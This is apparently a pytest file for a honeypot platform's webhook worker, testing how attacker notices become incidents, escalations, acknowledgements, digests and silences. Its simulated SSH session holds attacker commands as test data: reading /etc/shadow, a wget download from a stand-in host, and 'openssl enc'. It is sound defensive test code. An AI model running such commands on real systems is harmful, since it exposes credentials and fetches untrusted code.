# SPDX-License-Identifier: MIT
"""Notices become incidents, and incidents a few notices of their own, with time that the test sets."""

from __future__ import annotations

import datetime as dt
import threading
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from typing import Any
from uuid import UUID

import pytest

from decnet_core.events.notices import (
    AttackerObserved,
    CanaryTriggered,
    CredentialCaptured,
    IdentityFormed,
    IncidentDigest,
    IncidentNotice,
    Notice,
    SessionEnded,
    TechniqueTagged,
)
from decnet_models.database.engine import reading, writing
from decnet_models.grouping.membership import groups_of
from decnet_models.identities import core_rows
from decnet_models.identities.tables import IDENTITIES
from decnet_models.incidents import queries, silences
from decnet_models.incidents.values import ACKNOWLEDGED, CLOSED, NOTE
from decnet_models.known import queries as known
from decnet_models.notices import queries as outbox
from decnet_models.webhooks import delivery_queries
from decnet_workers.webhook import deliveries as module
from decnet_workers.webhook.deliveries import Deliveries
from decnet_workers.webhook.incidents.selection import INCIDENTS, Selection, written
from decnet_workers.webhook.settings import WebhookSettings

NS = 1_000_000_000
MINUTE = 60 * NS
HOUR = 60 * MINUTE
ACTOR = UUID(int=7)


class Desk:
    """A worker's transactions, a clock, and what an endpoint for people receives."""

    def __init__(self, fleet: Any, monkeypatch: pytest.MonkeyPatch, **settings: Any) -> None:
        self.fleet = fleet
        self.now = 1_800_000_000 * NS
        monkeypatch.setattr(module, "time", self)
        with closing(fleet.engine.raw_connection()) as connection:  # the one that all use
            connection.cursor().execute("PRAGMA synchronous=OFF")
        self.people = fleet.add("https://people.test/", filter=written(Selection(sends=INCIDENTS)))
        self.deliveries = Deliveries(fleet.engine, WebhookSettings(**settings))
        self.deliveries.prepare()
        self._keys = 0

    def time_ns(self) -> int:
        return self.now

    def hear(self, *notices: Notice) -> None:
        """Write notices, one transaction for all, and let the worker take them."""
        with writing(self.fleet.engine) as connection:
            for notice in notices:
                self._keys += 1
                outbox.add(connection, f"test:{self._keys}", notice, self.now)
        self.poll()

    def poll(self) -> None:
        while self.deliveries.poll().lag:
            pass

    def wait(self, ns: int) -> None:
        """Let time pass as the worker does: from one due time to the next."""
        end = self.now + ns
        while (at := self.deliveries.poll().incidents_at) is not None and at <= end:
            self.now = max(self.now, at)
            self.poll()
        self.now = end
        self.poll()

    def told(self) -> list[Any]:
        """The notices of incidents, oldest first."""
        with reading(self.fleet.engine) as connection:
            found = [one.notice for one in outbox.after(connection, 0, 100_000)]
        return [one for one in found if isinstance(one, IncidentNotice | IncidentDigest)]

    def kinds(self) -> list[str]:
        return [str(one.__struct_config__.tag).removeprefix("incident.") for one in self.told()]

    def sent(self) -> list[str]:
        """The kinds of what was to be delivered to the endpoint for people."""
        return [each.kind for each in self.fleet.deliveries() if each.webhook_id == self.people.id]

    def listed(self) -> list[queries.Listed]:
        with reading(self.fleet.engine) as connection:
            return queries.incidents(connection)


@pytest.fixture
def desk(fleet: Any, monkeypatch: pytest.MonkeyPatch) -> Desk:
    return Desk(fleet, monkeypatch)


def seen(attacker: str = "192.0.2.1", ts: int = 5) -> AttackerObserved:
    return AttackerObserved(ts, attacker, "web-01", "ssh")


def logged_in(attacker: str = "192.0.2.1") -> CredentialCaptured:
    return CredentialCaptured(6, attacker, "ssh", "root", "toor", accepted=True, decky="web-01")


def tagged(technique: str = "T1082", level: str = "low", attacker: str = "192.0.2.1", **more: Any) -> TechniqueTagged:
    return TechniqueTagged(7, attacker, technique, "r", "A rule", level, decky="web-01", **more)


def ended(attacker: str = "192.0.2.1") -> SessionEnded:
    return SessionEnded(9, attacker, "s1", "ssh", 1000, 6, "web-01")


def test_of_a_source_that_became_known_meanwhile_nobody_is_told(desk: Desk) -> None:
    everything = desk.fleet.add("https://siem.test/")
    with writing(desk.fleet.engine) as connection:
        known.add(connection, "192.0.2.0/28", "scanner")
        known.add(connection, "192.0.2.99/32", "only at night", port=22)
    desk.hear(seen("192.0.2.1"), logged_in("192.0.2.1"), tagged(attacker="192.0.2.99"))
    assert [one.incident.attacker for one in desk.listed()] == ["192.0.2.99"]
    assert [one.kind for one in desk.fleet.deliveries() if one.webhook_id == everything.id] == ["ttp.tagged"]


def session(desk: Desk) -> None:
    """One SSH session of six commands, as a person types them: every few seconds one."""
    desk.hear(seen(), logged_in(), tagged("T1078", "high", action="ssh login root / toor accepted"))
    for technique, level, action in (
        ("T1033", "low", "id"),
        ("T1082", "low", "uname -a"),
        ("T1057", "low", "ps aux"),
        ("T1083", "low", "ls -la /"),
        ("T1003.008", "high", "cat /etc/shadow"),
        ("T1105", "medium", "wget http://203.0.113.9/x"),
    ):
        desk.wait(2 * NS)
        desk.hear(tagged(technique, level, action=action))
    desk.hear(ended())


def test_a_session_of_six_commands_is_one_notification_with_the_decisive_line(desk: Desk) -> None:
    session(desk)
    desk.wait(25 * MINUTE)
    assert desk.kinds() == ["opened"]
    assert desk.sent() == ["incident.opened"]
    (opened,) = desk.told()
    assert (opened.severity, opened.line, opened.line_kind) == ("high", "cat /etc/shadow", "ttp.tagged")
    assert opened.notices == opened.fresh == 10
    assert opened.counts == {"attacker.observed": 1, "credential.captured": 1, "ttp.tagged": 7, "session.ended": 1}
    assert opened.deckies == ("web-01",)
    assert set(opened.techniques) >= {"T1003.008", "T1105"}
    assert opened.title.startswith("192.0.2.1 had a session and tried to log in on web-01")


def test_every_notice_stays_a_record_and_reaches_those_who_want_each(desk: Desk) -> None:
    every = desk.fleet.add("https://siem.test/")
    session(desk)
    desk.wait(MINUTE)
    records = [each.kind for each in desk.fleet.deliveries() if each.webhook_id == every.id]
    assert len(records) == 10
    assert "incident.opened" not in records
    with reading(desk.fleet.engine) as connection:
        assert queries.notice_numbers(connection, 1) == list(range(1, 11))


def test_a_critical_finding_is_told_at_once(desk: Desk) -> None:
    desk.hear(tagged("T1486", "high", action="openssl enc"))
    assert desk.kinds() == ["opened"]


def test_a_canary_waits_a_moment_only(desk: Desk) -> None:
    desk.hear(CanaryTriggered(5, "192.0.2.1", "tok", "finance share", "http", "/x"))
    desk.wait(4 * NS)
    (opened,) = desk.told()
    assert (opened.severity, opened.line) == ("high", "finance share: /x")


def test_greater_severity_is_an_escalation(desk: Desk) -> None:
    desk.hear(seen())
    desk.wait(MINUTE)
    desk.hear(tagged("T1003.008", "high", action="cat /etc/shadow"))
    desk.wait(4 * NS)
    assert desk.kinds() == ["opened", "escalated"]
    assert [(one.severity, one.reason) for one in desk.told()] == [("low", ""), ("high", "severity")]


def test_what_nobody_acknowledges_is_told_again_a_few_times(desk: Desk) -> None:
    desk.hear(tagged("T1003", "high", action="x"))
    desk.wait(40 * HOUR)
    assert desk.kinds() == ["opened", "escalated", "escalated", "escalated"]
    assert {one.reason for one in desk.told()[1:]} == {"unacknowledged"}
    assert desk.listed()[0].incident.due_at is None


def test_a_low_incident_needs_nobody(desk: Desk) -> None:
    desk.hear(seen())
    desk.wait(40 * HOUR)
    assert desk.kinds() == ["opened"]


def act(desk: Desk, verb: str, who: str = "anna", note: str = "") -> Any:
    with writing(desk.fleet.engine) as connection:
        return queries.act(connection, 1, verb, who, note, now_ns=desk.now)


def test_who_acknowledges_is_told_and_nothing_more_comes_but_greater_severity(desk: Desk) -> None:
    desk.hear(tagged("T1003", "high", action="x"))
    desk.wait(MINUTE)
    assert act(desk, ACKNOWLEDGED, note="mine") is None
    desk.hear(tagged())
    desk.wait(10 * HOUR - MINUTE)
    assert desk.kinds() == ["opened", "acknowledged"]
    assert (desk.told()[1].who, desk.told()[1].note, desk.told()[1].state) == ("anna", "mine", "acknowledged")


def test_the_second_who_acknowledges_learns_who_was_first(desk: Desk) -> None:
    desk.hear(seen())
    assert act(desk, ACKNOWLEDGED, "anna") is None
    earlier = act(desk, ACKNOWLEDGED, "boris")
    assert (earlier.who, earlier.verb) == ("anna", ACKNOWLEDGED)
    assert act(desk, NOTE, "boris", "a note") is None
    assert act(desk, CLOSED, "boris") is None
    assert act(desk, ACKNOWLEDGED, "anna").verb == CLOSED
    desk.poll()
    assert desk.kinds() == ["acknowledged", "closed"]


def test_of_many_who_acknowledge_at_once_all_but_one_learn_who_was_first(desk: Desk) -> None:
    desk.hear(seen())
    names = [f"operator {number}" for number in range(6)]
    together = threading.Barrier(len(names))

    def one(who: str) -> Any:
        together.wait()
        return act(desk, ACKNOWLEDGED, who)

    with ThreadPoolExecutor(len(names)) as pool:
        earlier = dict(zip(names, pool.map(one, names), strict=True))
    (winner,) = [who for who, action in earlier.items() if action is None]
    assert {action.who for action in earlier.values() if action is not None} == {winner}
    desk.poll()
    assert [one.who for one in desk.told()] == [winner]


def test_after_closing_the_next_notice_is_a_new_incident(desk: Desk) -> None:
    desk.hear(seen())
    act(desk, CLOSED)
    desk.hear(tagged())
    desk.wait(MINUTE)
    assert [(one.incident.id, one.state) for one in desk.listed()] == [(2, "new"), (1, "closed")]
    assert desk.kinds() == ["closed", "opened"]


@pytest.mark.parametrize("passed", [61 * MINUTE, -61 * MINUTE])
def test_silence_and_a_clock_that_jumps_begin_a_new_incident(desk: Desk, passed: int) -> None:
    desk.hear(seen())
    desk.now += passed
    desk.hear(tagged())
    assert len(desk.listed()) == 2


def member(desk: Desk, *attackers: str, identity: UUID = ACTOR) -> None:
    """Let attackers be members of an identity, as the clusterer writes it."""
    with writing(desk.fleet.engine) as connection:
        core_rows.create(connection, [identity], now_ns=1)
        known = groups_of(connection, IDENTITIES, attackers)
        core_rows.move(connection, list(known), identity)
        new = [core_rows.Placed(who, identity, 1.0, "[]", 1, 1, 1) for who in attackers if who not in known]
        core_rows.place(connection, new)


def test_addresses_of_one_actor_share_the_oldest_incident(desk: Desk) -> None:
    desk.hear(seen("192.0.2.1"), seen("192.0.2.2"), logged_in("192.0.2.2"), seen("192.0.2.3"))
    assert len(desk.listed()) == 3
    member(desk, "192.0.2.1", "192.0.2.2")
    desk.hear(IdentityFormed(9, str(ACTOR), 2, ("192.0.2.1", "192.0.2.2")))
    desk.hear(tagged(attacker="192.0.2.2"))
    first, other = sorted(desk.listed(), key=lambda one: one.incident.id)
    assert (first.incident.id, first.incident.attackers, first.incident.notices) == (1, 2, 5)
    assert first.incident.severity == 2
    assert other.incident.attacker == "192.0.2.3"
    with reading(desk.fleet.engine) as connection:
        assert queries.find(connection, 2) == first
        assert queries.notice_numbers(connection, 1) == [1, 2, 3, 5, 6]
        assert {one.value for one in queries.values(connection, 1) if one.field == "attacker"} == {
            "192.0.2.1",
            "192.0.2.2",
        }


def test_an_address_that_is_split_off_begins_an_incident_of_its_own(desk: Desk) -> None:
    member(desk, "192.0.2.1", "192.0.2.2")
    desk.hear(seen("192.0.2.1"), seen("192.0.2.2"))
    assert [one.incident.attackers for one in desk.listed()] == [2]
    member(desk, "192.0.2.2", identity=UUID(int=8))
    desk.hear(tagged(attacker="192.0.2.2"))
    assert sorted(one.incident.notices for one in desk.listed()) == [1, 2]


def test_a_storm_of_attackers_is_told_by_a_digest(fleet: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    desk = Desk(fleet, monkeypatch, incidents_per_minute=5)
    for first in range(2):
        desk.hear(*(seen(f"10.{first}.{n // 250}.{n % 250}") for n in range(300)))
    desk.hear(tagged("T1003", "high", "10.9.9.9", action="cat /etc/shadow"))
    desk.wait(3 * MINUTE)
    assert desk.kinds().count("opened") == 6
    (digest,) = [one for one in desk.told() if isinstance(one, IncidentDigest)]
    assert (digest.reason, digest.incidents, digest.severities) == ("storm", 595, {"low": 595})
    assert "incident.opened" in desk.sent()
    assert desk.sent().count("incident.digest") == 1
    assert len(desk.listed()) == 100
    with reading(fleet.engine) as connection:
        assert queries.count_open(connection) == {1: 600, 3: 1}


def test_a_batch_that_is_rolled_back_is_taken_again_with_the_same_result(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: Any, **__: Any) -> None:
        raise RuntimeError("killed")

    with monkeypatch.context() as broken:
        broken.setattr(delivery_queries, "add_deliveries", fail)
        with pytest.raises(RuntimeError):
            desk.hear(seen(), logged_in())
    assert desk.listed() == []
    desk.poll()
    assert [one.incident.notices for one in desk.listed()] == [2]


def test_a_silence_keeps_incidents_from_being_told_until_it_ends(desk: Desk) -> None:
    network = written(Selection(sources=("192.0.2.0/24",)))
    with writing(desk.fleet.engine) as connection:
        silences.silence(connection, network, desk.now + HOUR, "anna", now_ns=desk.now)
    desk.hear(tagged("T1003", "high", action="x"), tagged("T1003", "high", "198.51.100.1", action="y"))
    desk.wait(2 * MINUTE)
    assert [one.attacker for one in desk.told()] == ["198.51.100.1"]
    desk.hear(tagged())
    desk.now += 59 * MINUTE
    desk.hear(tagged())
    desk.wait(MINUTE)
    assert [one.attacker for one in desk.told() if one.state == "new"][:2] == ["198.51.100.1", "192.0.2.1"]
    assert {one.incident.attacker for one in desk.listed()} == {"192.0.2.1", "198.51.100.1"}


def at(text: str) -> int:
    """A local time, as nanoseconds."""
    return int(dt.datetime.fromisoformat(text).timestamp()) * NS


def test_quiet_hours_hold_incidents_back_for_a_digest_but_for_critical_ones(
    fleet: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = Desk(fleet, monkeypatch)
    quiet = written(Selection(sends=INCIDENTS, quiet=("22:00-07:00",)))
    sleeper = fleet.add("https://sleeper.test/", filter=quiet)

    def received() -> list[str]:
        return [each.kind for each in fleet.deliveries() if each.webhook_id == sleeper.id]

    desk.now = at("2027-03-03T23:00:00")
    desk.hear(seen("192.0.2.1"), seen("192.0.2.2"), tagged("T1486", "high", "192.0.2.3", action="openssl"))
    desk.wait(MINUTE)
    assert received() == ["incident.opened"]
    assert desk.sent().count("incident.opened") == 3
    monkeypatch.setattr(desk, "deliveries", Deliveries(fleet.engine, WebhookSettings()))
    desk.deliveries.prepare()  # as after a restart at night
    desk.wait(8 * HOUR - 2 * MINUTE)
    assert received().count("incident.digest") == 0
    desk.wait(10 * MINUTE)
    (digest,) = [one for one in desk.told() if isinstance(one, IncidentDigest)]
    assert (digest.reason, digest.severities, digest.webhook) == ("quiet hours", {"low": 2}, sleeper.id)
    assert received().count("incident.digest") == 1
    assert "incident.digest" not in desk.sent()
    desk.deliveries.prepare()
    desk.wait(10 * MINUTE)
    assert received().count("incident.digest") == 1
